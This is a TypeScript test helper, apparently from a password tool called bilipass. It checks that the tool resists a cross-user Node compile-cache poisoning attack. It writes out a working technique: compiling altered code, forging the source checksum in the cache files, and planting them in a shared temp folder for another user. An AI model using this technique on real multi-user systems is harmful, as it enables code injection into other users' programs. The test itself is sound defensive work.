import { execFile } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  copyFileSync,
  cpSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';

/** What became of the attack. */
export interface TwoUsersOutcome {
  /** Whether the attack works on a program that leaves the folder to Node; else nothing is proven. */
  readonly control: 'hit' | 'missed';
  /** Whether it works on `bilipass`. */
  readonly bilipass: 'hit' | 'missed';
}

const ATTACKER = 64_001;
const VICTIM = 64_002;
const PRINTED = 'or none is stored';
const PLANTED = 'by another user !';
/** Offset of the checksum of the source in a file of Node's compile cache: after magic and size. */
const SOURCE_CHECKSUM_AT = 12;

/** Whether this process may act as two users. */
export function canBeTwoUsers(): boolean {
  return process.platform === 'linux' && process.getuid?.() === 0;
}

/**
 * One user plants compiled code in the shared temporary folder, in the place where Node keeps that of
 * another user by default; then the other one runs `bilipass`.
 *
 * @param executable - A Node with a compile cache: 22.8 or later.
 * @param dist - The folder of the built program.
 */
export async function attackCompileCache(
  executable: string,
  dist: string,
): Promise<TwoUsersOutcome> {
  const folder = mkdtempSync(join(tmpdir(), 'bilipass-two-users-'));
  try {
    chmodSync(folder, 0o755);
    // The workspace may lie where only its owner can read.
    const node = join(folder, 'node');
    copyFileSync(executable, node);
    cpSync(dist, join(folder, 'program'), { recursive: true });
    writeFileSync(join(folder, 'program', 'control.cjs'), controlProgram);
    const shared = makeFolder(folder, 'shared', { uid: 0, mode: 0o1777 });
    const home = makeFolder(folder, 'home', { uid: VICTIM, mode: 0o700 });
    const env = { TMPDIR: shared, HOME: home, BILIPASS_LANG: 'en' };
    await plant({ node, folder, shared });
    const outcomeOf = async (file: string): Promise<'hit' | 'missed'> => {
      const args = [join(folder, 'program', file), 'whoami'];
      const said = await runAs(VICTIM, { node, args, env });
      if (said.includes(PLANTED)) return 'hit';
      if (said.includes(PRINTED)) return 'missed';
      throw new Error(`${file} said neither: ${said}`);
    };
    return { control: await outcomeOf('control.cjs'), bilipass: await outcomeOf('bilipass.cjs') };
  } finally {
    rmSync(folder, { recursive: true });
  }
}

/** What `bilipass` must not do. */
const controlProgram = `
  require('node:module').enableCompileCache();
  import('./main.js').then(({ main }) => main(process.argv.slice(2), '0.0.0'));
`;

interface Place {
  readonly node: string;
  readonly folder: string;
  readonly shared: string;
}

/** Compiles an altered program, and passes the result off as that of the real one. */
async function plant({ node, folder, shared }: Place): Promise<void> {
  const cache = makeFolder(folder, 'cache', { uid: ATTACKER, mode: 0o755 });
  const originals = alterProgram(join(folder, 'program'));
  const env = { NODE_COMPILE_CACHE: cache, HOME: '/', BILIPASS_LANG: 'en', TMPDIR: shared };
  const said = await runAs(ATTACKER, {
    node,
    args: [join(folder, 'program', 'control.cjs'), 'whoami', '--store', join(folder, 'none')],
    env,
  });
  if (!said.includes(PLANTED)) throw new Error(`the altered program did not run: ${said}`);
  for (const [path, source] of originals) writeFileSync(path, source);

  const [tag = ''] = readdirSync(cache);
  const target = join(shared, 'node-compile-cache', tag.replace(/\d+$/, String(VICTIM)));
  mkdirSync(target, { recursive: true });
  const checksums = new Map([...originals.values()].map((source) => [checksumOf(source), source]));
  for (const name of readdirSync(join(cache, tag))) {
    const code = readFileSync(join(cache, tag, name));
    const original = checksums.get(code.readUInt32LE(SOURCE_CHECKSUM_AT));
    if (original !== undefined) code.writeUInt32LE(crc32(original), SOURCE_CHECKSUM_AT);
    writeFileSync(join(target, name), code);
    chownSync(join(target, name), ATTACKER, ATTACKER);
  }
  for (const path of [target, join(shared, 'node-compile-cache')]) {
    chownSync(path, ATTACKER, ATTACKER);
    chmodSync(path, 0o777);
  }
}

/** Alters what the program prints. @returns what was there before, by path. */
function alterProgram(program: string): Map<string, string> {
  const originals = new Map<string, string>();
  for (const name of readdirSync(program).filter((file) => file.endsWith('.js'))) {
    const path = join(program, name);
    const source = readFileSync(path, 'utf8');
    if (!source.includes(PRINTED)) continue;
    originals.set(path, source);
    writeFileSync(path, alter(source));
  }
  return originals;
}

function alter(source: string): string {
  return source.replaceAll(PRINTED, PLANTED);
}

function checksumOf(original: string): number {
  return crc32(alter(original));
}

function makeFolder(
  parent: string,
  name: string,
  { uid, mode }: { readonly uid: number; readonly mode: number },
): string {
  const path = join(parent, name);
  mkdirSync(path);
  chownSync(path, uid, uid);
  chmodSync(path, mode);
  return path;
}

interface Command {
  readonly node: string;
  readonly args: readonly string[];
  readonly env: Readonly<Record<string, string>>;
}

/** What the program says on both streams, whatever its exit status. */
function runAs(uid: number, { node, args, env }: Command): Promise<string> {
  return new Promise((resolve) => {
    const options = { uid, gid: uid, env, cwd: '/', timeout: 30_000 };
    execFile(node, args, options, (error, stdout, stderr) =>
      resolve(`${stdout}${stderr}${error?.message ?? ''}`),
    );
  });
}
